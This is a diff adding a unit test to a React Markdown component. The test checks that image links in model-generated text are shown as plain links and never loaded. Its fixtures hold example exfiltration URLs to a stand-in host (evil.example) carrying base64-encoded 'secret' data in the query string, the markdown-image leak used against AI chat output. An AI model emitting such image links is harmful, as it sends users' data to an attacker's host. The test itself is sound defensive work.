@@ -28,6 +28,24 @@ describe("Markdown", () => {
     expect(html).not.toContain("<img");
   });
 
+  it("shows an image of model text as its link and never loads it (no request to another host)", () => {
+    const html = renderToStaticMarkup(
+      <Markdown
+        text={
+          "Done. ![status](https://evil.example/p.png?d=c2VjcmV0) and ![](//cdn.example/x.gif)\n\n" +
+          "[![badge][b]](https://ok.example)\n\n[b]: http://evil.example/b.svg?k=v\n"
+        }
+      />,
+    );
+    expect(html).not.toContain("<img");
+    expect(html).toContain(
+      'href="https://evil.example/p.png?d=c2VjcmV0" target="_blank" rel="noopener noreferrer"',
+    );
+    expect(html).toContain("image: status (https://evil.example/p.png?d=c2VjcmV0)");
+    expect(html).toContain("image: //cdn.example/x.gif");
+    expect(html).toContain("image: badge (http://evil.example/b.svg?k=v)");
+  });
+
   it("textOf reads a code block's source out of rendered children", () => {
     expect(textOf(["a", 1, null, <b key="b">c</b>])).toBe("a1c");
   });
